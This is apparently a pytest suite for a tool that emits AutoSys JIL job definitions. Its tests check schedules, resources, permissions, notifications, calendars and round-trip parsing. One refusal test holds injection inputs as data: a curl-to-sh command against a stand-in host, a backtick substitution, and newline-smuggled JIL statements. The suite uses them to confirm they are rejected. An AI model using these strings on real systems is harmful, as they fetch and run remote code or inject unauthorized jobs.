"""The emitted JIL: golden files for the seed domains, AE 12 validity of every attribute,
determinism, the parse(emit(config)) round trip, and refusal of configurations that would
produce invalid JIL."""

import pytest

from autosys_bridge.jil.attributes import JOB_NAME, KNOWN_ATTRIBUTES, VALIDATORS
from autosys_bridge.jil.diff import find_drift
from autosys_bridge.jil.emitter import (
    JilEmitError,
    build_calendars,
    build_statements,
    emit_calendars,
    emit_jil,
    must_complete_time,
    render_value,
)
from autosys_bridge.jil.graph import build_graph
from autosys_bridge.jil.lint import lint
from autosys_bridge.jil.parser import parse_jil, read_jil
from er_assets.config import ConfigError, load_config
from er_assets_tests.helpers import DATA, REPO, write_config

REGENERATE = "regenerate with `autosys-bridge jil -o er_assets_tests/data/seed_domains.jil` (and --calendars)"


def test_golden_jil_for_the_seed_domains(config):
    assert emit_jil(config) == (DATA / "seed_domains.jil").read_text(), REGENERATE


def test_golden_calendars_for_the_seed_domains(config):
    assert emit_calendars(config) == (DATA / "seed_calendars.txt").read_text(), REGENERATE


def test_output_is_deterministic(config):
    assert emit_jil(load_config()) == emit_jil(config)
    assert emit_jil(config).encode() == emit_jil(config).encode()


def test_every_attribute_is_a_real_ae12_attribute_with_a_valid_value(config):
    for statement in build_statements(config):
        assert JOB_NAME.match(statement.name)
        for attribute in statement.attributes:
            assert attribute.name in KNOWN_ATTRIBUTES, attribute.name
            assert VALIDATORS[attribute.name](attribute.value) is None, (statement.name, attribute)


def test_never_emits_words_that_are_not_jil(config):
    text = emit_jil(config)
    assert "notification:" not in text.replace("send_notification:", "")
    assert "define_variable" not in text
    for line in text.splitlines():
        if line and not line.startswith(("/*", " ")):
            assert line.split(":")[0] == line.split(":")[0].lower()


def test_round_trip_gives_back_exactly_the_emitted_statements(config):
    emitted = build_statements(config)
    parsed = parse_jil(emit_jil(config))
    assert parsed.problems == []
    assert [(s.subcommand, s.name, [(a.name, a.value) for a in s.attributes]) for s in parsed.statements] == [
        (s.subcommand, s.name, [(a.name, a.value) for a in s.attributes]) for s in emitted
    ]
    assert [{k: v.to_jil() for k, v in s.conditions.items()} for s in parsed.statements] == [
        {k: v.to_jil() for k, v in s.conditions.items()} for s in emitted
    ]
    calendars = parse_jil(emit_calendars(config))
    assert [(c.name, c.dates) for c in calendars.statements] == [(c.name, c.dates) for c in build_calendars(config)]


def _jobs(config, **kwargs):
    return {s.name: s for s in build_statements(config, **kwargs)}


def test_domain_boxes_schedules_and_chain(config):
    jobs = _jobs(config)
    box = jobs["ER_CUSTOMER_BOX"]
    assert (
        box.job_type,
        box.get("date_conditions"),
        box.get("days_of_week"),
        box.get("start_times"),
        box.get("timezone"),
    ) == ("BOX", "1", "all", "03:00", "US/Eastern")
    assert jobs["ER_PRODUCT_BOX"].get("days_of_week") == "su"
    vendor = jobs["ER_VENDOR_BOX"]
    assert vendor.get("run_calendar") == "ER_VENDORS_MONTHLY" and vendor.get("days_of_week") is None
    assert jobs["ER_CUSTOMER_EXTRACT"].get("condition") is None
    assert jobs["ER_CUSTOMER_PROCESS"].get("condition") == "s(ER_CUSTOMER_EXTRACT)"
    assert jobs["ER_CUSTOMER_LOAD"].get("condition") == "s(ER_CUSTOMER_PROCESS)"
    assert jobs["ER_CUSTOMER_LOAD"].box_name == "ER_CUSTOMER_BOX"
    assert jobs["ER_CUSTOMER_EXTRACT"].get("command") == "autosys-bridge run customers extract"
    assert jobs["ER_CUSTOMER_EXTRACT"].get("std_err_file") == (
        "/var/log/autosys/entity-resolution/customers/ER_CUSTOMER_EXTRACT.$AUTORUN.err"
    )


def test_process_jobs_share_the_matching_resource_and_free_it_however_they_end(config):
    jobs = _jobs(config)
    resource = jobs["ER_MATCHING_SLOT"]
    assert (resource.subcommand, resource.get("res_type"), resource.get("amount")) == (
        "insert_resource",
        "R",
        "1",
    )
    claims = {name: job.values("resources") for name, job in jobs.items() if job.get("resources")}
    # FREE=A: returned on failure and KILLJOB too (FREE=Y would only return it on success).
    assert claims == {
        name: ["(ER_MATCHING_SLOT,QUANTITY=1,FREE=A)"]
        for name in (
            "ER_CUSTOMER_PROCESS",
            "ER_PRODUCT_PROCESS",
            "ER_VENDOR_PROCESS",
            "ER_ON_DEMAND_PROCESS",
        )
    }


def test_on_demand_holds_the_slot_only_while_it_matches(config):
    jobs = _jobs(config)
    box, extract, process, load = (
        jobs[name]
        for name in (
            "ER_ON_DEMAND",
            "ER_ON_DEMAND_EXTRACT",
            "ER_ON_DEMAND_PROCESS",
            "ER_ON_DEMAND_LOAD",
        )
    )
    assert box.job_type == "BOX" and box.get("date_conditions") == "0"
    assert box.get("resources") is None and box.box_name is None
    assert [j.box_name for j in (extract, process, load)] == ["ER_ON_DEMAND"] * 3
    assert extract.get("resources") is None and load.get("resources") is None
    assert process.get("resources") == "(ER_MATCHING_SLOT,QUANTITY=1,FREE=A)"
    assert (process.get("condition"), load.get("condition")) == (
        "s(ER_ON_DEMAND_EXTRACT)",
        "s(ER_ON_DEMAND_PROCESS)",
    )
    # The slot is held for the matching time limit, not extract + match + load.
    assert process.get("term_run_time") == jobs["ER_CUSTOMER_PROCESS"].get("term_run_time")


def test_on_demand_globals_never_reach_shell_syntax(config):
    text = emit_jil(config)
    for name, job in _jobs(config).items():
        if name.startswith("ER_ON_DEMAND_"):
            assert "$$" not in job.get("command")
            assert job.get("command") == f"autosys-bridge on-demand {name.rsplit('_', 1)[1].lower()}"
            assert job.values("envvars") == [
                "ER_DOMAIN=$$ER_DOMAIN",
                "ER_PROCESS_DATE=$$ER_PROCESS_DATE",
            ]
    assert "command: autosys-bridge run $$" not in text


def test_default_permission_is_least_privilege(config):
    for statement in build_statements(config):
        if statement.is_job:
            assert statement.get("permission") == "gx", statement.name


def test_permission_is_configurable_but_world_edit_is_refused(tmp_path):
    config = load_config(
        write_config(tmp_path, lambda raw: raw["domains"]["customers"]["autosys"].update(permission="gx,ge"))
    )
    assert _jobs(config)["ER_CUSTOMER_LOAD"].get("permission") == "gx,ge"
    config = load_config(
        write_config(
            tmp_path,
            lambda raw: raw["domains"]["customers"]["autosys"].update(permission="gx,ge,wx,we"),
        )
    )
    with pytest.raises(JilEmitError, match="lets every user of the AutoSys instance edit"):
        emit_jil(config)


def test_every_run_keeps_its_own_log_files(config):
    for name, job in _jobs(config).items():
        if job.job_type != "CMD":
            continue
        out, err = job.get("std_out_file"), job.get("std_err_file")
        # $AUTORUN (the box run's number, expanded by AutoSys) makes one log pair per run.
        assert out.endswith(f"/{name}.$AUTORUN.out") and err.endswith(f"/{name}.$AUTORUN.err")
    names = [j.get("std_out_file") for j in _jobs(config).values() if j.job_type == "CMD"]
    assert len(names) == len(set(names))


def test_term_run_time_from_execution_timeout(config):
    jobs = _jobs(config)
    assert jobs["ER_CUSTOMER_PROCESS"].get("term_run_time") == str(10800 // 60 + 15)
    assert jobs["ER_CUSTOMER_EXTRACT"].get("term_run_time") == "120"


def test_notifications(config):
    jobs = _jobs(config)
    extract, load = jobs["ER_CUSTOMER_EXTRACT"], jobs["ER_CUSTOMER_LOAD"]
    assert extract.get("send_notification") == "f" and load.get("send_notification") == "y"
    for job in (extract, load):
        assert job.values("notification_emailaddress") == ["customer-team@example.com"]
        assert job.values("notification_emailaddress_on_failure") == ["er-admin@example.com"]
        assert job.get("notification_msg")


def test_notification_lists_repeat_the_attribute(tmp_path):
    def mutate(raw):
        raw["domains"]["customers"]["notifications"] = {
            "emails": ["a@x.io", "b@x.io"],
            "on_failure": ["oncall@x.io", "er-admin@example.com"],
            "on_success": ["boss@x.io"],
        }

    jobs = _jobs(load_config(write_config(tmp_path, mutate)))
    load = jobs["ER_CUSTOMER_LOAD"]
    assert load.values("notification_emailaddress") == ["a@x.io", "b@x.io"]
    assert load.values("notification_emailaddress_on_failure") == [
        "oncall@x.io",
        "er-admin@example.com",
    ]
    assert load.values("notification_emailaddress_on_success") == ["boss@x.io"]
    assert jobs["ER_CUSTOMER_PROCESS"].values("notification_emailaddress_on_success") == []


def test_domain_selection(config):
    names = set(_jobs(config, domains=["products"]))
    assert names == {
        "ER_MATCHING_SLOT",
        "ER_PRODUCT_BOX",
        "ER_PRODUCT_EXTRACT",
        "ER_PRODUCT_PROCESS",
        "ER_PRODUCT_LOAD",
        "ER_ON_DEMAND",
        "ER_ON_DEMAND_EXTRACT",
        "ER_ON_DEMAND_PROCESS",
        "ER_ON_DEMAND_LOAD",
    }
    with pytest.raises(ConfigError, match="Domain 'nope' not found"):
        build_statements(config, domains=["nope"])


def test_monthly_calendar_dates(config):
    (calendar,) = build_calendars(config)
    assert calendar.name == "ER_VENDORS_MONTHLY"
    assert calendar.dates[:2] == ["01/01/2024 00:00", "02/01/2024 00:00"] and len(calendar.dates) == 120


def test_day_of_month_beyond_a_short_month_is_clamped(tmp_path):
    def mutate(raw):
        raw["domains"]["vendors"]["schedule"]["day_of_month"] = 28

    (calendar,) = build_calendars(load_config(write_config(tmp_path, mutate)))
    assert calendar.dates[1] == "02/28/2024 00:00"


def _unchecked(config, section, domain=None, **values):
    """The configuration with values set without validation: what the emitter would get from
    code that built a configuration itself, so its own checks are the last line of defence."""
    if domain is None:
        return config.model_copy(update={"settings": config.settings.model_copy(update=values)})
    chosen = config.domains[domain]
    part = getattr(chosen, section).model_copy(update=values)
    domains = {**config.domains, domain: chosen.model_copy(update={section: part})}
    return config.model_copy(update={"domains": domains})


@pytest.mark.parametrize(
    ("section", "domain", "values", "message"),
    [
        ("settings", None, {"autosys_resource": "ER MATCHING"}, "insert_resource 'ER MATCHING'"),
        ("settings", None, {"autosys_resource": "R" * 65}, "name is not valid"),
        (
            "autosys",
            "customers",
            {"log_dir": "logs/customers"},
            "domain 'customers': autosys.log_dir 'logs/customers' is not an absolute path",
        ),
        ("autosys", "customers", {"permission": "gx,rw"}, "(domain 'customers', autosys.permission): permission"),
        (
            "autosys",
            "customers",
            {"machine": "host\ninsert_job: PWN   job_type: CMD"},
            "(domain 'customers', autosys.machine): machine 'host\\ninsert_job: PWN   job_type: CMD': "
            "contains control characters",
        ),
        ("autosys", "products", {"owner": "autosys\rx"}, "(domain 'products', autosys.owner)"),
        (
            "autosys",
            "customers",
            {"command": "autosys-bridge $(curl evil.example|sh);"},
            "(domain 'customers', autosys.command): command "
            "'autosys-bridge $(curl evil.example|sh); run customers extract': holds shell syntax",
        ),
        ("autosys", "customers", {"command": "autosys-bridge `id`"}, "autosys.command"),
        ("autosys", "vendors", {"profile": "/etc/p\x00"}, "(domain 'vendors', autosys.profile)"),
        ("notifications", "customers", {"emails": ["a@example.com\nmachine: evil"]}, "notifications.emails"),
    ],
)
def test_values_that_would_produce_invalid_or_unsafe_jil_are_refused(config, section, domain, values, message):
    with pytest.raises(JilEmitError) as info:
        emit_jil(_unchecked(config, section, domain, **values))
    assert message in str(info.value)


def test_calendar_prefix_that_makes_an_invalid_name_is_refused(config):
    with pytest.raises(JilEmitError, match="calendar name"):
        emit_calendars(_unchecked(config, "settings", autosys_calendar_prefix="ER CAL "))


def test_values_with_colons_or_spaces_are_quoted_and_commands_are_escaped():
    assert render_value("start_times", "03:00") == '"03:00"'
    assert render_value("description", "two words") == '"two words"'
    assert render_value("owner", "autosys") == "autosys"
    assert render_value("command", "copy C:\\a b") == "copy C\\:\\a b"
    assert render_value("condition", "s(A) & s(B)") == "s(A) & s(B)"
    with pytest.raises(JilEmitError):
        render_value("description", 'say "hi" now')


FEED_CONDITION = "s(FEED_CUSTOMERS_LOAD, 12.00)"


def test_a_box_waits_for_its_feed_and_carries_its_sla_as_autosys_s_own_alarm(tmp_path):
    config = load_config(
        write_config(tmp_path, lambda raw: raw["domains"]["customers"]["autosys"].update(condition=FEED_CONDITION))
    )
    jobs = _jobs(config)
    box = jobs["ER_CUSTOMER_BOX"]
    assert box.get("condition") == FEED_CONDITION
    schedule = config.domain("customers").schedule
    hours, minutes = divmod(int(schedule.time[:2]) * 60 + int(schedule.time[3:]) + schedule.sla_minutes, 60)
    assert box.get("must_complete_times") == f"{hours:02d}:{minutes:02d}"
    assert jobs["ER_PRODUCT_BOX"].get("condition") is None  # only where configured
    assert f'must_complete_times: "{hours:02d}:{minutes:02d}"' in emit_jil(config)


def test_a_deadline_past_the_next_days_may_not_be_emitted(tmp_path):
    assert must_complete_time("23:30", 60) == "24:30"  # AutoSys reads it as 00:30 the next day
    assert must_complete_time("00:00", 71 * 60 + 59) == "71:59"
    config = load_config(
        write_config(tmp_path, lambda raw: raw["domains"]["products"]["schedule"].update(sla_minutes=5000))
    )
    with pytest.raises(JilEmitError) as refused:
        emit_jil(config)
    assert str(refused.value) == (
        f"{config.path}: domain 'products': schedule.sla_minutes: 5000 minutes after 05:00 is past 71:59, "
        "the latest must_complete_times AutoSys accepts"
    )


def test_a_condition_autosys_cannot_read_is_refused_naming_the_domain(tmp_path):
    config = load_config(
        write_config(tmp_path, lambda raw: raw["domains"]["customers"]["autosys"].update(condition="s(FEED"))
    )
    with pytest.raises(JilEmitError) as refused:
        emit_jil(config)
    assert str(refused.value).startswith(f"{config.path}: domain 'customers': autosys.condition 's(FEED': ")


def test_the_docs_feed_and_downstream_job_lint_clean_with_the_emitted_boxes(tmp_path):
    config = load_config(
        write_config(tmp_path, lambda raw: raw["domains"]["customers"]["autosys"].update(condition=FEED_CONDITION))
    )
    emitted = parse_jil(emit_jil(config), "er.jil")
    feeds, downstream = (read_jil(REPO / "docs" / "examples" / name) for name in ("feeds.jil", "downstream.jil"))
    assert lint([emitted, feeds, downstream]) == []
    alone = lint([emitted])
    assert [p.message for p in alone] == [
        "condition of ER_CUSTOMER_BOX refers to FEED_CUSTOMERS_LOAD, defined in none of the files given"
    ]
    edges = {
        (e.source, e.target, e.label)
        for e in build_graph({**emitted.effective_jobs(), **downstream.effective_jobs()}).edges
    }
    assert ("FEED_CUSTOMERS_LOAD", "ER_CUSTOMER_BOX", "s (12.00)") in edges
    assert ("ER_CUSTOMER_BOX", "ER_DATA_PREP", "s (12.00)") in edges
    # Production without the condition yet: drift names it.
    production = parse_jil(emit_jil(load_config()), "prod.jil")
    changed = [d for d in find_drift(production, build_statements(config), ["ER_CUSTOMER"]) if d.kind == "changed"]
    assert [(d.name, d.attribute, d.production) for d in changed] == [("ER_CUSTOMER_BOX", "condition", None)]
    assert "FEED_CUSTOMERS_LOAD" in (changed[0].configuration or "")
